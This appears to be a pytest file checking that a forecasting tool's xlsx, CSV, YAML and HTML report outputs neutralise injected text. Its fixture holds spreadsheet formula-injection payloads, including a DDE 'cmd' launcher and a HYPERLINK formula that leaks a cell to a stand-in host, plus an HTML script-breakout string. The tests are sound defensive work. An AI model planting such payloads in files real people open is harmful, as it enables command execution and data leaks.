"""Outputs that are safe to open (issue 21): text from the inputs never becomes a live formula in
budget.xlsx or a CSV table, a key of solved.yaml, or markup in report.html.

One hostile scenario on a hostile copy of a bundle is run through ``budget``, ``run``, ``solve`` and
``report``; every xlsx the commands wrote is opened with openpyxl and every cell checked, every CSV
read back and every cell checked.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from forecast.cli import main
from forecast.results.neutral import FORMULA_START

from ..conftest import ROOT

pytestmark = pytest.mark.slow

LHASA = ROOT / "data" / "lhasa"
#: what an attacker or a careless user writes where text goes
HOSTILE = {
    "region": '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "title": "=cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "folder": "-2+3+cmd|' -C calc'!A0",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict:
    """A copy of data/lhasa named like a formula, in a folder named like one, and a scenario whose
    title and sources are formulas; the budget written from them."""
    tmp = tmp_path_factory.mktemp("hostile")
    bundle = tmp / HOSTILE["folder"]
    shutil.copytree(LHASA, bundle)
    meta = (bundle / "region.yaml").read_text(encoding="utf-8")
    name = next(line for line in meta.splitlines() if line.startswith("name:"))
    (bundle / "region.yaml").write_text(
        meta.replace(name, f"name: {json.dumps(HOSTILE['region'], ensure_ascii=False)}", 1), encoding="utf-8"
    )
    scenario = tmp / "hostile.yaml"
    scenario.write_text(
        yaml.safe_dump(
            {
                "extends": str(ROOT / "scenarios" / "places" / "lhasa.yaml"),
                "title": HOSTILE["title"],
                "sources": [HOSTILE["source"]],
                "region": bundle.name,
            },
            allow_unicode=True,
        ),
        encoding="utf-8",
    )
    out = tmp / "out"
    assert main(["budget", str(scenario), "--year", "2025", "--out", str(out), "-q"]) == 0
    assert main(["run", str(scenario), "--out", str(out / "run"), "-q"]) == 0
    return {"tmp": tmp, "scenario": scenario, "bundle": bundle, "out": out}


def _text_cells(book):
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def test_no_workbook_cell_is_a_formula_and_the_hostile_text_is_there_as_text(hostile):
    written = list(hostile["out"].rglob("*.xlsx"))
    assert written, "budget wrote no workbook"
    for path in written:
        book = load_workbook(path)
        cells = list(_text_cells(book))
        formulas = [(sheet, c.coordinate, c.value) for sheet, c in cells if c.data_type in ("f", "e")]
        assert not formulas, f"{path.name}: cells read as formulas or errors: {formulas[:3]}"
        texts = [c.value for _, c in cells if isinstance(c.value, str)]
        for key in ("region", "title", "source"):
            assert any(HOSTILE[key] in t for t in texts), f"{key} is not shown as text in {path.name}"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(path: Path):
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
        yield from row


def test_no_csv_cell_begins_like_a_formula(hostile):
    written = list(hostile["out"].rglob("*.csv"))
    assert len(written) >= 5
    for path in written:
        for cell in _csv_cells(path):
            if cell.startswith(FORMULA_START):
                float(cell)  # only a plain number may begin with - or +


def test_a_region_folder_named_like_a_formula_is_text_in_batch_summary(hostile, capsys):
    out = hostile["tmp"] / "batch"
    assert main(["batch", "--regions", str(hostile["bundle"]), "--workers", "1", "--out", str(out), "-q"]) == 0
    cells = list(_csv_cells(out / "batch_summary.csv"))
    assert "'" + str(hostile["bundle"]) not in cells  # an absolute path begins with '/', no prefix needed
    assert str(hostile["bundle"]) in cells
    relative = hostile["tmp"] / "relative"
    relative.mkdir()
    import os

    cwd = os.getcwd()
    os.chdir(hostile["tmp"])
    try:
        assert main(["batch", "--regions", HOSTILE["folder"], "--workers", "1", "--out", str(relative), "-q"]) == 0
    finally:
        os.chdir(cwd)
    cells = list(_csv_cells(relative / "batch_summary.csv"))
    assert "'" + HOSTILE["folder"] in cells
    assert not [
        c for c in cells if c.startswith(FORMULA_START) and c != "-" and not _number(c)
    ]  # a negative number is a number


@pytest.mark.parametrize(
    "title", ["a: b # not a comment", "line one\nnew_key: 1 'q' \"d\"\n  - x", "=cmd|' /C calc'!A0 [1, 2] {k: v}"]
)
def test_solved_yaml_round_trips_any_title(title, tmp_path, capsys):
    scenario = tmp_path / "titled.yaml"
    scenario.write_text(
        yaml.safe_dump({"extends": str(ROOT / "scenarios" / "baseline.yaml"), "title": title}, allow_unicode=True),
        encoding="utf-8",
    )
    assert (
        main(
            ["solve", str(scenario), "--pool", "resident", "--lever", "financing", "--out", str(tmp_path / "out"), "-q"]
        )
        == 0
    )
    solved = tmp_path / "out" / "solved.yaml"
    overlay = yaml.safe_load(solved.read_text(encoding="utf-8"))
    assert set(overlay) == {"title", "policy"}, "the overlay holds only the keys the solver wrote"
    assert overlay["title"] == f"{title} + solved resident financing"
    capsys.readouterr()
    assert main(["validate", f"{scenario}+{solved}"]) == 0
    from forecast.scenario.load import load_scenario

    assert load_scenario(f"{scenario}+{solved}").title == overlay["title"]


def test_the_reports_json_block_cannot_be_broken_open(tmp_path, capsys):
    title = "x</script><!--<script>alert(1)</script>\u2028&amp;"
    scenario = tmp_path / "titled.yaml"
    scenario.write_text(
        yaml.safe_dump({"extends": str(ROOT / "scenarios" / "baseline.yaml"), "title": title}, allow_unicode=True),
        encoding="utf-8",
    )
    assert main(["report", str(scenario), "--out", str(tmp_path / "out"), "-q"]) == 0
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    opening = '<script type="application/json" id="forecast-headline">'
    start = html.index(opening) + len(opening)
    block = html[start : html.index("</script>", start)]
    for bad in ("<", ">", "&", "\u2028"):
        assert bad not in block
    assert json.loads(block)["scenario_title"] == title
    assert "<script>alert" not in html
